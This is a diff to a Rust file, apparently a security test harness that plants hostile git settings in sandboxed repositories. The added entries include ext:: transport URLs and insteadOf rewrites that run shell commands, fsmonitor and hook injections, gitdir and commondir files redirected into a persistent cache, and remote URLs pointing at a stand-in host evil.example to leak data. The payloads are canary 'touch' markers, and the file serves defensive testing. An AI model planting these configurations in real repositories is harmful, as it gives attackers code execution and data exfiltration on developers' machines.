@@ -98,7 +98,10 @@ pub(crate) const METHODS: &[&str] = &[
 /// Functions for attacks.
 pub(crate) const PRELUDE: &str = r#"
 export L=@LIVE@ T=${T:-/tmp}
-mkdir -p $T
+# A cache of the project's sessions: it stays on the host, under the path that it has inside. A control has one at a path of the same form.
+export K=${GOCACHE:-$CONTROL_CACHE}
+test -n "$K" || { echo 'no cache'; exit 1; }
+mkdir -p $T $K
 cd "${PLACE:-$L/project}" || exit 1
 # put METHOD FILE < CONTENT
 put() {
@@ -248,6 +251,11 @@ pub(crate) static PLANTS: &[Plant] = &[
     setting!("remote.origin.receivepack", "touch @C@; git-receive-pack", "git config remote.origin.url .", "push"),
     setting!("remote.origin.url", "ext::sh -c touch% @C@", "git config protocol.ext.allow always", "fetch"),
     setting!("remote.origin.vcs", "ext", "git config protocol.ext.allow always; git config remote.origin.url 'sh -c touch% @C@'", "fetch"),
+    setting!("remote.origin.url", "ssh://x%40evil.example%2f@host.example/leak", "fetch"),
+    setting!("remote.origin.url", "host.example:a@[evil.example]:leak", "fetch"),
+    setting!("remote.origin.url", "ssh://host.example/a@[evil.example]:22/leak", "fetch"),
+    setting!("remote.origin.pushurl", "ext::sh -c touch% @C@", "git config protocol.ext.allow always", "push"),
+    setting!("url.ext::sh -c touch% @C@ .insteadOf", "git@host.example:", "git config protocol.ext.allow always", "fetch"),
     setting!("url.ssh://evil.example/.insteadOf", "git@host.example:", "fetch"),
     setting!("core.gitProxy", "touch @C@; false", "git config remote.g.url git://evil.invalid/x", "fetch")
         .live(Live::Not("a program's name with a blank is no program here")),
@@ -258,6 +266,7 @@ pub(crate) static PLANTS: &[Plant] = &[
     setting!("submodule.dep.update", "!touch @C@;", "git -C lib/dep checkout -q HEAD~1", "submodule_update"),
     setting!("submodule.dep.url", "ssh://evil.example/leak", "git config -f .gitmodules submodule.dep.url ssh://evil.example/leak
         git config -f .git/modules/dep/config remote.origin.url ssh://evil.example/leak", "submodule_update"),
+    setting!("remote.origin.url", "ssh://git@host.example/x", "printf '[submodule \"dep\"]\\n\\tpath = lib/dep\\n\\turl = ../../evil.example/leak\\n' | put direct .gitmodules", "submodule_update"),
     setting!("core.alternateRefsCommand", "touch @C@; false", "echo $PWD/nested/.git/objects | put direct .git/objects/info/alternates", "fetch"),
     setting!("interactive.diffFilter", "touch @C@; cat", "git config color.ui always", "add_p"),
     setting!("merge.tool", "evil", "git config mergetool.evil.cmd 'touch @C@'", "mergetool"),
@@ -372,6 +381,25 @@ pub(crate) static PLANTS: &[Plant] = &[
     plant("a2: a new remote in a cache has hooks, and is where branches are pushed to",
         "git init -q --bare ~/.cache/r@N@.git; for hook in pre-receive update post-receive; do program direct ~/.cache/r@N@.git/hooks/$hook @C@; done
          git config remote.r@N@.url \"file://$(hostpath $HOME)/.cache/r@N@.git\"; git config remote.pushDefault r@N@", &[(".", "push")]),
+    plant("a2: a git directory in a cache that stays",
+        "forge $K/g@N@ @C@ 'head objects refs config hooks index'
+         mkdir sub@N@; echo \"gitdir: $K/g@N@\" | put @M@ sub@N@/.git; gitlink sub@N@", &[("sub@N@", "status"), (".", "status")]),
+    plant("a2: a git directory in a cache that stays, made before it is named",
+        "mkdir $K/w@N@; git init -q $K/w@N@; git -C $K/w@N@ config core.fsmonitor 'touch @C@; false'
+         mkdir sub@N@; echo \"gitdir: $(realpath --relative-to=sub@N@ $K)/w@N@/.git\" | put @M@ sub@N@/.git", &[("sub@N@", "status")]),
+    plant("a2: the git directory of a submodule is in a cache that stays",
+        "forge $K/g@N@ @C@ 'head objects refs config index'; echo \"gitdir: $K/g@N@\" | put @M@ lib/dep/.git", &[("lib/dep", "status"), (".", "status")]),
+    plant("a2: the common directory of a work tree is in a cache that stays",
+        "forge $K/g@N@ @C@ 'head objects refs config'; echo $K/g@N@ | put @M@ .git/worktrees/wt/commondir", &[("wt", "status")]),
+    plant("a2: a remote in a cache that stays has hooks",
+        "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive post-update; do program direct $K/r@N@.git/hooks/$hook @C@; done
+         git config remote.origin.url $K/r@N@.git", &[(".", "push")]),
+    plant("a2: a new remote in a cache that stays has hooks, and is where branches are pushed to",
+        "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive; do program direct $K/r@N@.git/hooks/$hook @C@; done
+         git config remote.r@N@.url \"file://$K/r@N@.git\"; git config remote.pushDefault r@N@", &[(".", "push")]),
+    plant("a2: a branch is pushed to a path in a cache that stays",
+        "git init -q --bare $K/r@N@.git; for hook in pre-receive update post-receive; do program direct $K/r@N@.git/hooks/$hook @C@; done
+         git config branch.main.remote \"src/../$(realpath --relative-to=. $K)/r@N@.git\"", &[(".", "push")]),
     plant("a5: what is missing is served by a program",
         "git config remote.evil.url .; git config remote.evil.promisor true; git config remote.evil.uploadpack 'touch @C@; git-upload-pack'
          git config extensions.partialClone evil; git config core.repositoryformatversion 1
